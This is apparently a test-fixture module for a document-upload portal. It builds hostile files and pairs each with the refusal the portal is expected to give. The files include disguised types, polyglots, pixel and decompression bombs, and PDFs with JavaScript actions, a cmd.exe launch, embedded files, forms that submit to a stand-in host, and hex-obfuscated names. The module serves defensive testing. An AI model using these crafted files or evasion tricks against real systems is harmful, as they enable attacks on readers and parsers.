import { deflateSync } from "node:zlib";
import type { EvidenceRefusal } from "@/lib/documents/evidence-type";
import { jpegFile, type PdfParts, pdfFile, pngFile } from "./evidence-files";
import { zipArchive } from "./zip-archive";

/** A file that somebody might send to do harm, and what the portal must say to it. Made by code: none lies about as a file. */
export type HostileFile = {
  readonly what: string;
  readonly fileName: string;
  readonly declaredType: string;
  readonly bytes: () => Buffer;
  readonly verdict: EvidenceRefusal;
};

const MEDIA_TYPES: Readonly<Record<string, string>> = {
  pdf: "application/pdf",
  jpg: "image/jpeg",
  png: "image/png",
  xlsx: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
  docx: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
};

export const hostile = (
  what: string,
  fileName: string,
  bytes: () => Buffer,
  verdict: EvidenceRefusal,
  declaredType = MEDIA_TYPES[fileName.split(".").at(-1) ?? ""] ?? "application/octet-stream",
): HostileFile => ({ what, fileName, declaredType, bytes, verdict });

const text = (content: string) => () => Buffer.from(content, "latin1");
const behind =
  (...parts: (() => Buffer)[]) =>
  () =>
    Buffer.concat(parts.map((part) => part()));
const page = () => zipArchive([{ name: "index.html", content: "<script>alert(1)</script>" }]);

/** One kind of file that calls itself another, or two kinds in one. */
export const DISGUISES: readonly HostileFile[] = [
  hostile("a web page", "报告.pdf", text("<!DOCTYPE html><script>alert(1)</script>"), "type-mismatch"),
  hostile("a script", "报告.pdf", text("WScript.Shell\r\n"), "type-mismatch"),
  hostile("a web page that names itself PDF further down", "报告.pdf", text("<html>%PDF-1.7\n%%EOF"), "type-mismatch"),
  hostile("a drawing with a script", "图.png", text("<svg onload='alert(1)'/>"), "type-mismatch"),
  hostile("a drawing with a script", "图.jpg", text("\u00ef\u00bb\u00bf<?xml version='1.0'?><svg/>"), "type-mismatch"),
  hostile("a drawing", "图.svg", text("<svg/>"), "type-not-allowed", "image/svg+xml"),
  hostile("a program", "setup.exe", text("MZ\u0090\0"), "type-not-allowed"),
  hostile("a program called PDF", "报告.pdf", text("MZ\u0090\0"), "type-mismatch"),
  hostile("a program for Linux", "报告.pdf", text("\u007fELF\u0002\u0001"), "type-mismatch"),
  hostile("a shortcut", "报告.pdf.lnk", text("L\0\0\0\u0001\u0014\u0002\0"), "type-not-allowed"),
  hostile("a PDF whose last name is a program's", "报告.pdf.exe", () => pdfFile(), "type-mismatch"),
  hostile("a PDF without a last name", "报告", () => pdfFile(), "type-mismatch"),
  hostile("a PDF called JPG", "报告.jpg", () => pdfFile(), "type-mismatch"),
  hostile("a PNG called PDF", "报告.pdf", () => pngFile(9, 9), "type-mismatch"),
  hostile("a PNG that the browser calls a web page", "图.png", () => pngFile(9, 9), "type-mismatch", "text/html"),
  hostile("a PDF that the browser calls a script", "a.pdf", () => pdfFile(), "type-mismatch", "text/javascript"),
  hostile(
    "an animated picture with a PDF behind it",
    "a.pdf",
    behind(text("GIF89a"), () => pdfFile()),
    "type-mismatch",
  ),
  hostile(
    "a web page with a PDF behind it",
    "a.pdf",
    behind(text("<script>/*"), () => pdfFile()),
    "type-mismatch",
  ),
  hostile(
    "an archive with a PDF behind it",
    "a.pdf",
    behind(page, () => pdfFile()),
    "type-mismatch",
  ),
  hostile(
    "a PDF with an archive behind it",
    "a.pdf",
    behind(() => pdfFile(), page),
    "file-polyglot",
  ),
  hostile(
    "a PNG with an archive behind it",
    "a.png",
    behind(() => pngFile(9, 9), page),
    "file-polyglot",
  ),
  hostile(
    "a JPG with an archive behind it",
    "a.jpg",
    behind(() => jpegFile(9, 9), page),
    "file-polyglot",
  ),
  hostile("a WebP picture", "a.webp", text("RIFF\0\0\0\0WEBPVP8 "), "type-not-allowed", "image/webp"),
  hostile("a HEIC picture called JPG", "a.jpg", text("\0\0\0\u0018ftypheic"), "type-mismatch"),
  hostile("a mail", "a.eml", text("From: a@b\r\n\r\n"), "type-not-allowed", "message/rfc822"),
  hostile("nothing", "a.pdf", text(""), "file-empty"),
  hostile("one byte", "a.png", text("\u0089"), "type-mismatch"),
];

/** Small files of which a reader makes gigabytes, or which end too early. */
export const BOMBS: readonly HostileFile[] = [
  hostile("60,000 × 60,000 pixels", "a.png", () => pngFile(60_000, 60_000), "image-too-large"),
  hostile("one pixel line too many", "a.png", () => pngFile(10_000, 10_001), "image-too-large"),
  hostile("the widest number there is", "a.png", () => pngFile(0x7fff_ffff, 0x7fff_ffff), "image-too-large"),
  hostile("65,535 × 65,535 pixels", "a.jpg", () => jpegFile(65_535, 65_535), "image-too-large"),
  hostile("no width", "a.png", () => pngFile(0, 10), "file-damaged"),
  hostile("no height", "a.jpg", () => jpegFile(10, 0), "file-damaged"),
  hostile("cut off in the header", "a.png", () => pngFile(9, 9).subarray(0, 20), "file-damaged"),
  hostile("cut off behind the header", "a.png", () => pngFile(9, 9).subarray(0, 33), "file-damaged"),
  hostile("cut off before its end", "a.jpg", () => jpegFile(9, 9).subarray(0, -2), "file-damaged"),
  hostile("segments that never come to a picture", "a.jpg", () => endlessSegments(), "file-damaged"),
  hostile("a PDF without its end", "a.pdf", () => pdfFile().subarray(0, -7), "file-damaged"),
  hostile("nothing but a PDF's first line", "a.pdf", text("%PDF-1.7\n"), "file-damaged"),
  hostile("a PDF of which 80 MB unfold", "a.pdf", () => pdfBomb(80_000_000), "pdf-unreadable"),
];

const endlessSegments = () =>
  Buffer.concat([Buffer.from("ffd8", "hex"), ...Array.from({ length: 5_000 }, () => Buffer.from("ffe10002", "hex"))]);

function pdfBomb(size: number): Buffer {
  const file = pdfFile();
  const end = file.indexOf("trailer");
  return Buffer.concat([
    file.subarray(0, end),
    Buffer.from("9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"),
    deflateSync(Buffer.alloc(size, " ")),
    Buffer.from("\nendstream\nendobj\n"),
    file.subarray(end),
  ]);
}

const SCRIPT = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>";
const pdf = (what: string, parts: PdfParts, verdict: EvidenceRefusal) =>
  hostile(what, "备案通知书.pdf", () => pdfFile(parts), verdict);
const object = (content: string) => ({ objects: [`7 0 obj\n<< ${content} >>\nendobj\n`] });

/** Documents that do more than show. */
export const DOCUMENTS: readonly HostileFile[] = [
  pdf("a script at opening", { catalog: SCRIPT }, "pdf-script"),
  pdf("a script in the names of the document", { catalog: "/Names << /JavaScript 7 0 R >>" }, "pdf-script"),
  pdf("a script at printing", { catalog: "/AA << /WP << /S /JavaScript /JS 7 0 R >> >>" }, "pdf-script"),
  pdf("a script of a button", object("/Subtype /Widget /A << /S /JavaScript /JS (x) >>"), "pdf-script"),
  pdf("a script spelt in numbers", { catalog: "/OpenAction << /S /J#61va#53cript /JS 7 0 R >>" }, "pdf-script"),
  pdf("a script spelt in numbers alone", { catalog: "/S /#4a#61#76#61#53#63#72#69#70#74" }, "pdf-script"),
  pdf("a script in packed objects", { packed: `11 0 << ${SCRIPT} >>` }, "pdf-script"),
  pdf("a program to start", { catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }, "pdf-launch"),
  pdf("a program to start, without blanks", { catalog: "/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>" }, "pdf-launch"),
  pdf("a program to start, packed", { packed: "11 0 << /S /Launch /F (a) >>" }, "pdf-launch"),
  pdf("an attached program", object("/Type /EmbeddedFile /Length 0"), "pdf-attachment"),
  pdf("attached files by name", { catalog: "/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>" }, "pdf-attachment"),
  pdf("an attachment pinned to a page", object("/Subtype /FileAttachment"), "pdf-attachment"),
  pdf("an attached file under its short name", object("/F (a) /EF << /F 8 0 R >>"), "pdf-attachment"),
  pdf("an attached file, packed", { packed: "11 0 << /F (a) /EF<</F 8 0 R>> >>" }, "pdf-attachment"),
  pdf("a form that runs", { catalog: "/AcroForm << /XFA 7 0 R >>" }, "pdf-form"),
  pdf("a form that runs, under its name in numbers", { catalog: "/AcroForm << /#58F#41[(a) 7 0 R] >>" }, "pdf-form"),
  pdf("a form that runs, packed", { packed: "11 0 << /Fields [] /XFA 7 0 R >>" }, "pdf-form"),
  pdf(
    "a form that runs, and sends what it knows when its page opens",
    {
      catalog: "/AcroForm << /XFA 5 0 R >>",
      objects: ["7 0 obj\n<< /Type /Page /AA << /O << /S /SubmitForm /F (http://a.example/) >> >> >>\nendobj\n"],
    },
    "pdf-remote",
  ),
  pdf("a form that is sent by a button", object("/A << /S /SubmitForm /F << /FS /URL /F (a) >> >>"), "pdf-remote"),
  pdf("a form that is filled from elsewhere", object("/A << /S /ImportData /F (//a/b.fdf) >>"), "pdf-remote"),
  pdf("another file to open", { catalog: "/OpenAction << /S /GoToR /F (//a.example/b.pdf) >>" }, "pdf-remote"),
  pdf("another file to open, spelt in numbers", { catalog: "/OpenAction << /S /Go#54oR /F (a) >>" }, "pdf-remote"),
  pdf("another file to open, packed", { packed: "11 0 << /S/GoToR/F(a) >>" }, "pdf-remote"),
  pdf("a file within to open", object("/A << /S /GoToE /T << /R /C >> >>"), "pdf-remote"),
  pdf("a film with buttons", object("/Subtype /RichMedia /RichMediaContent 8 0 R"), "pdf-media"),
  pdf("a film with buttons that is started", object("/A << /S /RichMediaExecute /TA 8 0 R >>"), "pdf-media"),
  pdf("something to play at opening", { catalog: "/OpenAction << /S /Rendition /OP 0 >>" }, "pdf-media"),
  pdf("a film", object("/Subtype /Movie /Movie << /F (//a.example/b.avi) >>"), "pdf-media"),
  pdf("a film, packed", { packed: "11 0 << /Subtype/Movie/Movie 7 0 R >>" }, "pdf-media"),
  pdf("a sound", object("/A << /S /Sound /#53ound 8 0 R >>"), "pdf-media"),
  pdf("a model that turns in space", object("/Subtype /3D /3DD 8 0 R"), "pdf-media"),
  pdf("a password", { trailer: "/Encrypt 8 0 R" }, "pdf-encrypted"),
  pdf("a password and a script", { catalog: SCRIPT, trailer: "/Encrypt 8 0 R" }, "pdf-encrypted"),
  pdf(
    "objects packed twice",
    { packed: "x", packedDictionary: "/Type /ObjStm /Filter [/FlateDecode /FlateDecode]" },
    "pdf-unreadable",
  ),
  pdf(
    "objects packed in another way",
    { packed: "x", packedDictionary: "/Type /ObjStm /Filter /LZWDecode" },
    "pdf-unreadable",
  ),
  pdf(
    "packed objects kept in another file",
    { packed: "x", packedDictionary: "/Type /ObjStm /Filter /FlateDecode /F (b)" },
    "pdf-unreadable",
  ),
  pdf(
    "packed objects behind the beginning of a stream that is none",
    {
      packed: `11 0 << ${SCRIPT} >>`,
      packedDictionary: "/Type /ObjStm (>>stream\n) /N 1 /First 4 /Filter /FlateDecode",
    },
    "pdf-script",
  ),
  pdf(
    "packed objects behind a comment",
    { packed: `11 0 << ${SCRIPT} >>`, packedDictionary: "/Type /ObjStm %obj\n /N 1 /First 4 /Filter /FlateDecode" },
    "pdf-unreadable",
  ),
];
